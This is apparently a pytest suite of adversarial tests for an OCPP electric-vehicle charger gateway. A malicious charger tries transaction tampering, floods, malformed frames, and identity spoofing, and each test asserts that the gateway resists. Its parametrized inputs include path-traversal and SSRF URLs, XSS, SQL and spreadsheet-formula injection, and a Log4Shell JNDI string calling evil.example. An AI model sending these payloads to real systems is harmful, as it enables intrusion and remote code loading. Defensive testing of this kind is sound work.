"""A charger that means ill: it has its password, and nothing else is its own. What it says costs little, and no other.

STRIDE: tampering (others' transactions), denial of service (floods, frames, reports), elevation (URLs, names).
"""

from __future__ import annotations

import itertools
import json
import secrets
from collections import Counter
from contextlib import suppress
from datetime import timedelta
from typing import Any

import boto3
import pytest
from botocore.client import BaseClient
from websockets.exceptions import ConnectionClosed, InvalidStatus

from benchmarks.calls import until_quiet
from benchmarks.wire import Socket
from chalicelib import wiring
from chalicelib.domain.chargers.allowance import MESSAGES, TRANSACTIONS
from local.seed import CHARGER_PASSWORD
from tests.attacks.conftest import Network, Scene, stamp

_ids = itertools.count(1)


def say(socket: Socket, action: str, payload: Any) -> list[Any]:
    """Send a CALL, and hear what is answered, be it an error."""
    message_id = f"m-{next(_ids)}"
    socket._socket.send(json.dumps([2, message_id, action, payload]))
    while True:
        frame: list[Any] = json.loads(socket._socket.recv(timeout=60))
        if frame[0] != 2 and frame[1] == message_id:
            return frame


def ends(socket: Socket) -> bool:
    """Whether the gateway closes it; what it says until then is not listened to."""
    try:
        while True:
            socket._socket.recv(timeout=60)
    except ConnectionClosed:
        return True
    except TimeoutError:
        return False


def start(tag: str, connector: int = 1, later_s: float = 0) -> dict[str, Any]:
    return {"connectorId": connector, "idTag": tag, "meterStart": 0, "timestamp": stamp(later_s)}


def executions() -> int:
    client = boto3.client("stepfunctions")
    (machine,) = client.list_state_machines()["stateMachines"]
    return len(client.list_executions(stateMachineArn=machine["stateMachineArn"], maxResults=1000)["executions"])


@pytest.fixture
def calls(monkeypatch: pytest.MonkeyPatch) -> Counter[str]:
    """Calls to AWS from now on, by name."""
    made: Counter[str] = Counter()
    call = BaseClient._make_api_call  # type: ignore[attr-defined]

    def counted(client: Any, operation: str, params: Any) -> Any:
        made[operation] += 1
        return call(client, operation, params)

    monkeypatch.setattr(BaseClient, "_make_api_call", counted)
    return made


def test_anothers_transaction_is_not_a_chargers_to_end_or_feed(net: Network, scene: Scene) -> None:
    victim: int = scene.socket.transaction_id  # type: ignore[attr-defined]
    before = net.alice.session(scene.running)
    with net.charger() as mallory:
        sample = [{"timestamp": stamp(), "sampledValue": [{"value": "999000", "unit": "Wh"}]}]
        say(mallory, "MeterValues", {"connectorId": 1, "transactionId": victim, "meterValue": sample})
        say(mallory, "StopTransaction", {"transactionId": victim, "meterStop": 999_000, "timestamp": stamp()})
        say(
            mallory,
            "StopTransaction",
            {"transactionId": victim, "meterStop": 1, "timestamp": stamp(), "idTag": scene.running},
        )
    after = net.alice.session(scene.running)
    assert (after["state"], after["energy_wh"], after["stopped_at"]) == ("active", before["energy_wh"], None)


def test_an_apps_token_begins_nothing_at_another_charger(net: Network, scene: Scene) -> None:
    with net.charger() as mallory:
        for tag in (scene.running, scene.running.lower(), scene.paid, scene.running + " "):
            answer = say(mallory, "Authorize", {"idTag": tag})
            assert answer[2].get("idTagInfo", {}).get("status") != "Accepted"
            said = say(mallory, "StartTransaction", start(tag))
            assert said[0] == 4 or said[2]["idTagInfo"]["status"] != "Accepted"


def test_an_answer_nobody_asked_this_charger_for_is_nobodys(net: Network, scene: Scene) -> None:
    """The ids of commands are keyed by charger: an accepted start of another's is not to be told from here."""
    charger_id = net.register()
    with net.charger(charger_id) as honest, net.charger() as mallory:
        session_id = net.alice.begin(charger_id)["session_id"]
        for message_id in (f"start-{session_id}", session_id, "1"):
            mallory._socket.send(json.dumps([3, message_id, {"status": "Rejected"}]))
            mallory._socket.send(json.dumps([4, message_id, "InternalError", "", {}]))
        say(mallory, "Heartbeat", {})
        assert net.alice.session(session_id)["state"] == "initiated"
        honest.await_command()
        net.alice.end(session_id)


@pytest.mark.parametrize(
    "frame",
    [
        "[" * 30_000,
        '{"a":' * 6_000,
        '[2,"x","Heartbeat",' + "[" * 5_000 + "]" * 5_000 + "]",
        '[2,"x","Heartbeat",{"a":1e999999}]',
        '[2,"x","Heartbeat",{"a":' + "9" * 20_000 + "}]",
        '[2,"x","DataTransfer",{"vendorId":"a\\u0000b"}]',
        '[2,"x","DataTransfer",{"vendorId":"\\ud800"}]',
        '[2,"x\\u0000","Heartbeat",{}]',
        '[2,"' + "x" * 30_000 + '","Heartbeat",{}]',
        '[2,"x","' + "H" * 30_000 + '",{}]',
        '[2,"x","__class__",{}]',
        '[2,"x","../../etc/passwd",{}]',
        '[2,"x","Heartbeat",{"$ref":"file:///etc/passwd"}]',
        '[2,"x","Heartbeat",{},{},{}]',
        "\x00\x00\x00",
        "null",
        "NaN",
        "[]",
        '[2,null,"Heartbeat",{}]',
        '[2,{},"Heartbeat",{}]',
    ],
    ids=lambda it: repr(it[:45]),
)
def test_no_frame_breaks_the_conversation(net: Network, frame: str) -> None:
    with net.charger() as socket:
        socket._socket.send(frame)
        assert "currentTime" in say(socket, "Heartbeat", {})[2]


def test_a_frame_of_any_size_ends_its_own_socket_only(net: Network, scene: Scene) -> None:
    with net.charger() as socket:
        with suppress(ConnectionClosed):
            socket._socket.send("x" * 200_000)
        assert ends(socket)
    assert "currentTime" in say(scene.socket, "Heartbeat", {})[2]


def test_a_session_nobody_pays_for_has_no_workflow_until_it_ends(net: Network) -> None:
    with net.charger() as socket:
        before = executions()
        begun = say(socket, "StartTransaction", start("NOBODY"))[2]
        assert begun["idTagInfo"]["status"] != "Accepted"
        assert executions() == before
        stop = {"transactionId": begun["transactionId"], "meterStop": 10, "timestamp": stamp()}
        say(socket, "StopTransaction", stop)
        assert executions() == before + 1
        say(socket, "StopTransaction", stop)
        assert executions() == before + 1


def test_a_charger_begins_no_more_transactions_than_its_allowance(net: Network) -> None:
    charger_id = net.register()
    with net.charger(charger_id) as socket:
        at = wiring.network().clock()
        assert wiring.network().allowances.take(charger_id, TRANSACTIONS, TRANSACTIONS.burst - 2, at)
        said = [say(socket, "StartTransaction", start(f"T{number}", 1, number)) for number in range(5)]
        assert [it[0] for it in said] == [3, 3, 4, 4, 4]
        # Told again, each is as new as it was, and what was begun is no news.
        assert say(socket, "StartTransaction", start("T9", 1, 9))[0] == 4
        known = {"transactionId": said[0][2]["transactionId"], "meterStop": 1, "timestamp": stamp(1)}
        assert say(socket, "StopTransaction", known)[0] == 3
    sessions = net.operator.call("GET", "/v1/operator/sessions?limit=50")["items"]
    assert sum(it["charger_id"] == charger_id for it in sessions) == 2


def test_a_charger_that_talks_without_end_is_shut_out_for_a_while(net: Network) -> None:
    charger_id = net.register()
    with net.charger(charger_id) as socket:
        at = wiring.network().clock()
        assert wiring.network().allowances.take(charger_id, MESSAGES, MESSAGES.burst, at + timedelta(minutes=1))
        for _ in range(60):
            socket._socket.send(json.dumps([2, f"m-{next(_ids)}", "Heartbeat", {}]))
        assert ends(socket)
    assert net.knock(f"/ocpp/{charger_id}", charger_id, CHARGER_PASSWORD.encode()) == 429
    assert net.knock(f"/ocpp/{charger_id}", charger_id, b"guess") == 401
    knocks = net.operator.call("GET", "/v1/operator/knocks")["items"]
    assert any(it["charger_id"] == charger_id and it["reason"] == "too_much" for it in knocks)
    with pytest.raises(InvalidStatus):
        Socket(net.stack.socket_url, charger_id, CHARGER_PASSWORD, "ocpp1.6")


def test_an_ordinary_chargers_heartbeats_and_readings_cost_no_call_more(
    net: Network, scene: Scene, calls: Counter[str]
) -> None:
    sample = [{"timestamp": stamp(), "sampledValue": [{"value": "1", "unit": "Wh"}]}]
    transaction_id = scene.socket.transaction_id  # type: ignore[attr-defined]
    say(scene.socket, "Heartbeat", {})
    # What others were asked for before is over: a socket's end, a workflow.
    until_quiet(0.1)
    calls.clear()
    for _ in range(10):
        say(scene.socket, "Heartbeat", {})
    assert calls.total() <= 1  # once a minute the socket's own row
    say(scene.socket, "MeterValues", {"connectorId": 1, "transactionId": transaction_id, "meterValue": sample})
    assert calls["UpdateItem"] == 0


@pytest.mark.parametrize("connector", [-1, 1_000_000, 2**31, 2**63])
def test_connectors_no_charger_has_take_no_room(net: Network, connector: int) -> None:
    charger_id = net.register()
    with net.charger(charger_id) as socket:
        say(socket, "StatusNotification", {"connectorId": connector, "errorCode": "NoError", "status": "Available"})
    assert {it["connector"] for it in net.alice.call("GET", f"/v1/chargers/{charger_id}")["connectors"]} == {"1", "2"}


def test_what_a_charger_calls_itself_is_text_and_nothing_else(net: Network) -> None:
    charger_id = net.register()
    names = {
        "chargePointVendor": "<script>alert(1)</sc>",
        "chargePointModel": "=cmd|'/C calc'!A0",
        "chargePointSerialNumber": "'; DROP TABLE--",
        "firmwareVersion": "${jndi:ldap://evil.example}",
    }
    with net.charger(charger_id) as socket:
        assert say(socket, "BootNotification", names)[0] == 3
    answer = net.ask(net.operator, "GET", f"/v1/operator/chargers/{charger_id}")
    assert answer.headers["Content-Type"].startswith("application/json")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_a_serial_number_makes_no_charger_another_one(net: Network) -> None:
    """A certificate may name a serial number; a charger that tells another's name as its own gains nothing by it."""
    victim = net.register(security_profile=3)
    charger_id = net.register()
    with net.charger(charger_id) as socket:
        say(
            socket,
            "BootNotification",
            {"chargePointVendor": "T", "chargePointModel": "O", "chargePointSerialNumber": victim},
        )
    assert net.knock(f"/ocpp/{victim}", charger_id, CHARGER_PASSWORD.encode()) == 401
    assert not net.alice.call("GET", f"/v1/chargers/{victim}")["online"]


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "javascript://x",
        "gopher://127.0.0.1:25/x",
        "dict://x",
        "https://a.example/\r\nHost: b",
        "https://a.example/ b",
        "https://a.example/\0",
        "//a.example",
        "https://",
        "data:text/plain,x",
    ],
    ids=repr,
)
@pytest.mark.parametrize(
    "order",
    [
        {"command": "update_firmware", "request_id": 1, "retrieve_at": "2026-11-30T00:00:00Z"},
        {"command": "upload_log", "request_id": 1, "kind": "diagnostics"},
    ],
    ids=lambda it: it["command"],
)
def test_no_order_makes_a_charger_read_its_own_files(net: Network, order: dict[str, Any], url: str) -> None:
    answer = net.ask(net.operator, "POST", "/v1/operator/chargers/DEMO-16/commands", {**order, "url": url})
    assert answer.status_code == 422
    assert "url" in answer.text


def test_a_socket_that_was_replaced_is_no_voice_of_its_charger(net: Network) -> None:
    """Whoever has the password has the charger, and the one before is put out: two never speak for one."""
    charger_id = net.register()
    with net.charger(charger_id) as first, net.charger(charger_id) as second:
        assert ends(first)
        assert "currentTime" in say(second, "Heartbeat", {})[2]


def test_a_token_that_is_tried_out_tells_nothing_of_its_owner(net: Network) -> None:
    with net.charger() as socket:
        for tag in (secrets.token_hex(7), "'--", "*", "%", "0"):
            info = say(socket, "Authorize", {"idTag": tag})[2]["idTagInfo"]
            assert set(info) <= {"status"}
